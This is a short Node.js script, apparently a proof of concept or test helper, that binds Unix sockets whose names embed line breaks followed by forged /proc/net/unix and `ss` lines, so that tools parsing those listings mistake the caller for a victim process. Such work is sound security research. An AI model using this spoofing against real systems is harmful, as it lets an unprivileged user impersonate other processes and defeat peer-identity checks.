/*
 * `forger.mjs FOLDER PEER OWN SECONDS PATH`: what any user can do to be taken for another process. It binds sockets whose names hold line breaks and
 * behind them the lines that /proc/net/unix and `ss` would print of a socket of the victim's.
 *
 * PEER, OWN: inodes that the forged lines name; PATH: the socket that they claim. Prints `ready`, and its own listening inode.
 */
import { mkdirSync, readdirSync, readlinkSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { dirname } from 'node:path';

const [folder = '', peer = '0', own = '0', seconds = '60', path = '/x'] = process.argv.slice(2);
mkdirSync(folder, { recursive: true });
process.chdir(folder);
setTimeout(() => process.exit(0), Number(seconds) * 1000).unref();

const inodes = () =>
  readdirSync('/proc/self/fd').flatMap((fd) => {
    try {
      const [, inode] = /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/self/fd/${fd}`)) ?? [];
      return inode === undefined ? [] : [inode];
    } catch {
      return [];
    }
  });

async function bind(name) {
  if (dirname(name) !== '.') mkdirSync(dirname(name), { recursive: true });
  const server = createServer();
  await new Promise((resolve, reject) => server.once('error', reject).listen(name, resolve));
  // lists of connected sockets have the name too, at the end that was accepted
  await new Promise((resolve) => {
    server.once('connection', resolve);
    connect(name);
  });
  return server;
}

await bind('own');
const [mine = '0'] = inodes();
const theirs = peer === 'mine' ? mine : peer;
const names = [
  `x\n0: 0 0 10000 0 0 ${theirs} ${path}`,
  `y\nu_str ESTAB 0 0 * ${own} * ${theirs} `,
  `z\nu_str LISTEN 0 1 ${path} ${theirs} * 0`,
];
for (const name of names) if (Buffer.byteLength(name) < 108) await bind(name);
console.log(`ready ${mine}`);
setInterval(() => undefined, 1000);
